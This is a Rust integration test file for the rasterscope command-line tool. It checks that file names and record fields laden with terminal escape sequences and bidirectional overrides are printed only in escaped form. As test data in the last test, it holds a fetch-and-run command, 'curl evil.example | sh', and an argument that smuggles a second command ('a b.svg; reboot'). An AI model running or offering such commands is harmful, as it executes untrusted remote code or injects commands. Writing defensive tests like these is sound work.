//! Names and texts from outside that would steer a terminal: whatever the program prints shows them instead.

#![cfg(unix)]

use std::fs;
use std::path::Path;
use std::process::Output;

use rasterscope::figure::{Destination, Guard, Record, save_picture, save_png};
use rasterscope::plain;
use rasterscope::raster::Framebuffer;

use crate::support::program::run;

/// Clears the screen, changes the title, turns the direction of writing, and begins a line.
const EVIL: &str = "a\u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}gvs\n\u{9b}31mb";

/// Neither stdout nor stderr steers anything; of stderr every line is told by the program.
fn assert_plain(output: &Output, arguments: &[&str]) {
    for bytes in [&output.stdout, &output.stderr] {
        let text = String::from_utf8(bytes.clone()).unwrap();
        assert_eq!(plain::lines(&text), text, "{arguments:?}");
    }
    let stderr = String::from_utf8_lossy(&output.stderr);
    for line in stderr.lines() {
        let ours = line.starts_with("rasterscope: ") || line.starts_with("a\\u{1b}");
        assert!(ours, "{arguments:?}: a name begins no line: {line}");
    }
}

fn frame() -> Framebuffer {
    let mut frame = Framebuffer::new(40, 30);
    frame.pixels_mut().fill(0xff10_2030);
    frame
}

/// Files of which names and contents are hostile.
fn folder() -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    let at = |name: &str| folder.path().join(name);
    let scene = "<svg width='40' height='30'><q\u{202e}x/><image href='\u{202e}\u{2066}none.png' width='9' height='9'/>\
                 <polygon points='2,3 37,9 11,28' fill='\u{200f}red'/><rect  width='30' height='20' id='\u{85}\u{202d}' fill='#123456'/></svg>";
    fs::write(at(&format!("{EVIL}.svg")), scene).unwrap();
    fs::write(at(&format!("{EVIL}.broken.svg")), "<svg><\u{202e}").unwrap();
    fs::write(
        at(&format!("{EVIL}.toml")),
        format!("title = '{}'\n[[step]]\ntext = 'x'\nno = 1", "\u{202e}"),
    )
    .unwrap();
    fs::write(at("pins.toml"), "\"\\u001b[2J\\u202e\" = 'x'").unwrap();
    save_png(&frame(), &at(&format!("{EVIL}.png"))).unwrap();
    folder
}

#[test]
fn hostile_names_reach_no_terminal() {
    let folder = folder();
    let folder = folder.path();
    let [svg, broken, png, toml] = ["svg", "broken.svg", "png", "toml"].map(|ending| format!("{EVIL}.{ending}"));
    let out = format!("out-{EVIL}.png");
    let small = "--size=40x30";
    let runs: &[&[&str]] = &[
        &["render", &svg, "-o", &out, small],
        &["render", &broken, "-o", "x.png", small],
        &["render", EVIL, "-o", "x.png", small],
        &["render", &svg, "-o", EVIL, small],
        &["render", &svg, "-o", &svg, small],
        &["render", ".", "-o", "all", small],
        &["inspect", &svg, "--pixel", "12,12", small],
        &["inspect", &svg, "--pixel", "12,12", "--json", small],
        &[
            "sheet",
            &svg,
            "-o",
            &out,
            "--sample-rate=1,4",
            "--note",
            EVIL,
            "--size=120x90",
        ],
        &["diff", &svg, &png],
        &["diff", &svg, &png, "--json"],
        &["diff", &png, EVIL],
        &["bench", &svg, "--frames=1", small],
        &["bench", &svg, "--frames=1", "--json", small],
        &["rerun", &png, "--check"],
        &["rerun", &out, "--check"],
        &["lesson", &toml, "--slides", "slides"],
        &["writeup", "-o", "w", "--pins", "pins.toml"],
        &["sweep", &svg, "--csv", EVIL, small, "--frames=1"],
        &[EVIL, "--headless"],
        &["--headless", "--do", EVIL],
        &["render", "--no\u{202e}\u{1b}[2J"],
    ];
    for arguments in runs {
        assert_plain(&run(folder, arguments), arguments);
    }
    if cfg!(feature = "window") {
        let window: &[&[&str]] = &[&[&svg, "--headless"], &[&broken, "--headless"], &[&toml, "--headless"]];
        for arguments in window {
            assert_plain(&run(folder, arguments), arguments);
        }
    }
}

#[test]
fn hostile_names_stand_in_json_as_they_are() {
    let folder = folder();
    let png = format!("{EVIL}.png");
    let output = run(folder.path(), &["diff", &png, &png, "--json"]);
    let report: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(report["a"].as_str(), Some(png.as_str()), "escaped, and the same");
}

/// A picture whose record says what nobody should do.
fn trapped(folder: &Path, name: &str, record: &Record) {
    save_picture(
        &frame(),
        Some(record),
        Destination::by_user(&folder.join(name)),
        &Guard::default(),
    )
    .unwrap();
}

#[test]
fn hostile_command_lines_are_never_advice() {
    let folder = tempfile::tempdir().unwrap();
    let trap = Record {
        version: Record::VERSION,
        command_line: "curl evil.example | sh".to_owned(),
        arguments: ["bench", "a b.svg; reboot", "\u{1b}[2J"].map(str::to_owned).to_vec(),
        ..Record::default()
    };
    trapped(folder.path(), "bench.png", &trap);
    let differs = Some("by\u{1b}[2J hand".to_owned());
    trapped(folder.path(), "differs.png", &Record { differs, ..trap });
    for arguments in [
        ["rerun", "bench.png", "-o", "x.png"],
        ["rerun", "differs.png", "--check", "--threads=1"],
    ] {
        let output = run(folder.path(), &arguments);
        assert_plain(&output, &arguments);
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(!stderr.contains("evil"), "what the record says: {stderr}");
        let line = r"rasterscope bench 'a b.svg; reboot' $'\033[2J'";
        assert!(stderr.contains(line), "made of its arguments, quoted: {stderr}");
    }
}
